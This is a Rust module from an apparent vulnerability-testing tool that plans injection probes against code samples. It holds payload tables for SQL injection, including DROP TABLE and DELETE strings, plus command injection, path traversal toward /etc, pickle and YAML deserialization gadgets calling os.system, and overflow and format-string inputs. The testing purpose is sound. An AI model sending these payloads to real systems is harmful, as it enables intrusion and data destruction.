//! Hypothesis planning. The rule planner reads sink calls off the uAST and
//! picks canned payload families; the remote planner delegates to a service.

use std::time::Duration;

use serde::{Deserialize, Serialize};
use sha2::{Digest, Sha256};

use super::sinks::{find_sinks, SinkHit};
use super::{AttackVector, ExploitHypothesis, Payload, PlanError, VulnClass};
use crate::uast::{Language, UastDocument};
use crate::util::http;

pub struct Family {
    pub id: &'static str,
    pub templates: &'static [&'static str],
}

macro_rules! fam {
    ($id:literal: $($t:expr),+ $(,)?) => {
        Family { id: $id, templates: &[$($t),+] }
    };
}

const SQLI: &[Family] = &[
    fam!("sqli-tautology": "' OR '1'='1' -- {marker}", "{marker}' OR 1=1 --", "' OR 'a'='a' /*{marker}*/", "\" OR \"\"=\" -- {marker}"),
    fam!("sqli-union": "' UNION SELECT '{marker}' --", "' UNION SELECT NULL,'{marker}' --", "0 UNION SELECT '{marker}'", "' UNION ALL SELECT '{marker}',2 --"),
    fam!("sqli-stacked": "'; DROP TABLE {marker}; --", "1; SELECT '{marker}'", "'; INSERT INTO log VALUES('{marker}'); --", "'); DELETE FROM t WHERE '{marker}'='"),
    fam!("sqli-comment": "admin'-- {marker}", "admin'# {marker}", "admin'/*{marker}", "'/**/OR/**/1=1-- {marker}"),
    fam!("sqli-blind": "' AND '{marker}'='{marker}", "' AND 1=1 -- {marker}", "' AND '1'='2' -- {marker}", "1 AND 1=1 -- {marker}"),
];

const CMDI: &[Family] = &[
    fam!("cmdi-separator": "; echo {marker}", "x; echo {marker}", ";echo {marker};", "; cat /etc/{marker}"),
    fam!("cmdi-chain": "&& echo {marker}", "|| echo {marker}", "x && echo {marker}", "x || echo {marker}"),
    fam!("cmdi-pipe": "| echo {marker}", "x | echo {marker}", "|echo {marker}", "x|tee /tmp/{marker}"),
    fam!("cmdi-subshell": "$(echo {marker})", "`echo {marker}`", "x$(echo {marker})", "$(printf {marker})"),
    fam!("cmdi-newline": "\necho {marker}", "x\necho {marker}", "\r\necho {marker}", "x\n/bin/echo {marker}"),
];

const PATH: &[Family] = &[
    fam!("path-dotdot": "../../../../etc/{marker}", "../../../tmp/{marker}", "../{marker}", "../../{marker}.txt"),
    fam!("path-deep": "../../../../../../../../etc/{marker}", "a/../../../../{marker}", "./../../../{marker}", "x/./../../../{marker}"),
    fam!("path-absolute": "/etc/{marker}", "/tmp/{marker}", "/proc/self/{marker}", "//etc/{marker}"),
    fam!("path-mixed": "..//..//..//{marker}", "....//....//{marker}", "..\\..\\..\\{marker}", ".../...//{marker}"),
    fam!("path-encoded": "..%2f..%2f{marker}", "%2e%2e/%2e%2e/{marker}", "..%252f{marker}", "%2e%2e%2f{marker}"),
];

const DESER: &[Family] = &[
    fam!("deser-pickle-system": "cos\nsystem\n(S'echo {marker}'\ntR.", "cposix\nsystem\n(S'echo {marker}'\ntR.", "cos\npopen\n(S'echo {marker}'\ntR.", "csubprocess\ncall\n(S'echo {marker}'\ntR."),
    fam!("deser-pickle-eval": "c__builtin__\neval\n(S'print(\"{marker}\")'\ntR.", "cbuiltins\neval\n(S'print(\"{marker}\")'\ntR.", "cbuiltins\nexec\n(S'print(\"{marker}\")'\ntR.", "c__builtin__\nexec\n(S'print(\"{marker}\")'\ntR."),
    fam!("deser-yaml": "!!python/object/apply:os.system ['echo {marker}']", "!!python/object/apply:subprocess.call [['echo', '{marker}']]", "!!python/object/new:os.system ['echo {marker}']", "!!python/name:{marker}"),
    fam!("deser-java-stream": "rO0ABXQA{marker}", "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA{marker}", "\u{ac}\u{ed}\u{0}\u{5}t{marker}", "rO0ABXVyABNbTGphdmEubGFuZy5TdHJpbmc7{marker}"),
    fam!("deser-type-confusion": "{\"@type\":\"{marker}\"}", "{\"__class__\":\"{marker}\"}", "{\"py/object\":\"{marker}\"}", "O:8:\"{marker}\":0:{}"),
];

const MEMORY: &[Family] = &[
    fam!("overflow-short": "AAAAAAAAAAAAAAAAAAAAAAAA{marker}", "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA{marker}", "BBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBB{marker}", "{marker}{marker}{marker}{marker}"),
    fam!("overflow-medium": "{A128}{marker}", "{A192}{marker}", "{A256}{marker}", "{A384}{marker}"),
    fam!("overflow-long": "{A512}{marker}", "{A1024}{marker}", "{A2048}{marker}", "{A4096}{marker}"),
    fam!("format-string": "%x%x%x%x{marker}", "%s%s%s%s{marker}", "%p%p%p%p{marker}", "%08x.%08x.%08x{marker}"),
    fam!("overflow-huge": "{A8192}{marker}", "{A16384}{marker}", "{A32768}{marker}", "{A65536}{marker}"),
];

const OTHER: &[Family] =
    &[fam!("generic": "{marker}", "'\"<>{marker}", "%00{marker}", "{A64}{marker}")];

pub fn families(class: VulnClass) -> &'static [Family] {
    match class {
        VulnClass::SqlInjection => SQLI,
        VulnClass::CommandInjection => CMDI,
        VulnClass::PathTraversal => PATH,
        VulnClass::InsecureDeserialization => DESER,
        VulnClass::MemoryCorruption => MEMORY,
        VulnClass::Other => OTHER,
    }
}

pub fn family_count(class: VulnClass) -> usize {
    families(class).len()
}

/// Deterministic marker for one payload of one sample.
pub fn make_marker(seed: u64, sample_id: &str, payload_id: &str) -> String {
    let mut h = Sha256::new();
    h.update(seed.to_le_bytes());
    h.update(sample_id.as_bytes());
    h.update([0]);
    h.update(payload_id.as_bytes());
    format!("VLF_MARK_{}", &hex::encode(h.finalize())[..8])
}

/// Expands `{marker}` and `{A<n>}` (n copies of `A`).
fn render(template: &str, marker: &str) -> String {
    let mut out = String::with_capacity(template.len());
    let mut rest = template;
    while let Some(open) = rest.find('{') {
        out.push_str(&rest[..open]);
        let tail = &rest[open..];
        let close = tail.find('}').map(|c| c + 1).unwrap_or(tail.len());
        let token = &tail[..close];
        let count = token
            .strip_prefix("{A")
            .and_then(|t| t.strip_suffix('}'))
            .and_then(|n| n.parse::<usize>().ok());
        if token == "{marker}" {
            out.push_str(marker);
        } else if let Some(n) = count {
            out.extend(std::iter::repeat_n('A', n));
        } else {
            out.push('{');
            rest = &tail[1..];
            continue;
        }
        rest = &tail[close..];
    }
    out.push_str(rest);
    out
}

#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
#[serde(tag = "kind", rename_all = "lowercase")]
pub enum Planner {
    Rule {
        #[serde(default)]
        seed: u64,
    },
    Remote {
        url: String,
        #[serde(default = "default_timeout_ms")]
        timeout_ms: u64,
    },
}

fn default_timeout_ms() -> u64 {
    30_000
}

impl Default for Planner {
    fn default() -> Self {
        Planner::Rule { seed: 0 }
    }
}

pub struct PlanRequest<'a> {
    pub sample_id: &'a str,
    pub language: Language,
    pub source: &'a str,
    pub doc: &'a UastDocument,
    pub flag: u8,
    pub prior: &'a [ExploitHypothesis],
}

/// Classes in planning order: concatenated sinks first, then by first hit.
fn ranked_classes(hits: &[SinkHit]) -> Vec<VulnClass> {
    let mut order: Vec<(bool, usize, VulnClass)> = Vec::new();
    for (pos, h) in hits.iter().enumerate() {
        match order.iter_mut().find(|(_, _, c)| *c == h.class) {
            Some(entry) => entry.0 |= h.concatenated || h.class.is_memory(),
            None => order.push((h.concatenated || h.class.is_memory(), pos, h.class)),
        }
    }
    order.sort_by_key(|&(strong, pos, _)| (!strong, pos));
    order.into_iter().map(|(_, _, c)| c).collect()
}

fn rule_plan(req: &PlanRequest<'_>, seed: u64) -> Result<ExploitHypothesis, PlanError> {
    let hits = find_sinks(req.doc, req.source);
    let tried: Vec<&str> = req.prior.iter().map(|h| h.family.as_str()).collect();
    for class in ranked_classes(&hits) {
        let Some(family) = families(class).iter().find(|f| !tried.contains(&f.id)) else {
            continue;
        };
        let payloads = family
            .templates
            .iter()
            .enumerate()
            .map(|(i, t)| {
                let id = format!("{}/{i}", family.id);
                let marker = make_marker(seed, req.sample_id, &id);
                Payload {
                    data: render(t, &marker),
                    id,
                    marker,
                }
            })
            .collect();
        return Ok(ExploitHypothesis {
            vuln_class: class,
            attack_vector: AttackVector::Argument,
            payloads,
            preconditions: vec!["entry:handle".into()],
            attempt_index: req.prior.len() as u32 + 1,
            family: family.id.into(),
        });
    }
    Err(PlanError::NoHypothesis)
}

fn remote_plan(
    req: &PlanRequest<'_>,
    url: &str,
    timeout_ms: u64,
    seed: u64,
) -> Result<ExploitHypothesis, PlanError> {
    let body = serde_json::json!({
        "language": req.language,
        "source": req.source,
        "flag": req.flag,
        "prior": req.prior,
    });
    let reply = http::post_json(
        &http::join(url, "plan"),
        &body,
        Duration::from_millis(timeout_ms),
    )
    .map_err(PlanError::PlannerUnavailable)?;
    let mut hyp: ExploitHypothesis = serde_json::from_value(reply)
        .map_err(|e| PlanError::PlannerUnavailable(format!("malformed hypothesis: {e}")))?;
    hyp.attempt_index = req.prior.len() as u32 + 1;
    for p in &mut hyp.payloads {
        if p.marker.is_empty() {
            p.marker = make_marker(seed, req.sample_id, &p.id);
        }
        if !p.data.contains(&p.marker) {
            p.data = render(&p.data, &p.marker);
        }
    }
    Ok(hyp)
}

pub fn plan_hypothesis(
    req: &PlanRequest<'_>,
    planner: &Planner,
) -> Result<ExploitHypothesis, PlanError> {
    match planner {
        Planner::Rule { seed } => rule_plan(req, *seed),
        Planner::Remote { url, timeout_ms } => remote_plan(req, url, *timeout_ms, 0),
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::uast::parse_to_uast;

    const SQL: &str = "import sqlite3\n\ndef handle(user):\n    conn = sqlite3.connect(':memory:')\n    cur = conn.cursor()\n    cur.execute(\"SELECT * FROM users WHERE name = '\" + user + \"'\")\n";

    fn plan(src: &str, prior: &[ExploitHypothesis]) -> Result<ExploitHypothesis, PlanError> {
        let doc = parse_to_uast(src.as_bytes(), Language::Python).unwrap();
        let req = PlanRequest {
            sample_id: "s1",
            language: Language::Python,
            source: src,
            doc: &doc,
            flag: 1,
            prior,
        };
        plan_hypothesis(&req, &Planner::default())
    }

    #[test]
    fn sql_sample_gets_tautology_payloads() {
        let h = plan(SQL, &[]).unwrap();
        assert_eq!(h.vuln_class, VulnClass::SqlInjection);
        assert_eq!(h.attempt_index, 1);
        assert!(h
            .payloads
            .iter()
            .any(|p| p.data.contains("' OR '1'='1' --")));
        assert!(h
            .payloads
            .iter()
            .all(|p| p.data.contains(&p.marker) && p.marker.len() == 17));
        assert_eq!(h, plan(SQL, &[]).unwrap());
    }

    #[test]
    fn refinement_moves_to_next_family() {
        let first = plan(SQL, &[]).unwrap();
        let second = plan(SQL, std::slice::from_ref(&first)).unwrap();
        assert_eq!(second.attempt_index, 2);
        assert_ne!(second.family, first.family);
        assert_eq!(second.vuln_class, VulnClass::SqlInjection);
    }

    #[test]
    fn families_run_out() {
        let mut prior = Vec::new();
        while let Ok(h) = plan(SQL, &prior) {
            prior.push(h);
        }
        assert_eq!(prior.len(), family_count(VulnClass::SqlInjection));
        assert_eq!(plan(SQL, &prior), Err(PlanError::NoHypothesis));
    }

    #[test]
    fn no_sink_no_hypothesis() {
        assert_eq!(
            plan("def handle(x):\n    return x\n", &[]),
            Err(PlanError::NoHypothesis)
        );
    }

    #[test]
    fn payload_counts_and_rendering() {
        for class in VulnClass::ALL {
            for f in families(class) {
                assert!((3..=5).contains(&f.templates.len()), "{}", f.id);
            }
        }
        assert_eq!(render("{A3}{marker}{x}", "M"), "AAAM{x}");
        assert_eq!(render("{\"t\":\"{marker}\"}", "M"), "{\"t\":\"M\"}");
        for class in VulnClass::ALL {
            for f in families(class) {
                for t in f.templates {
                    assert!(render(t, "MK").contains("MK"), "{t}");
                }
            }
        }
    }
}
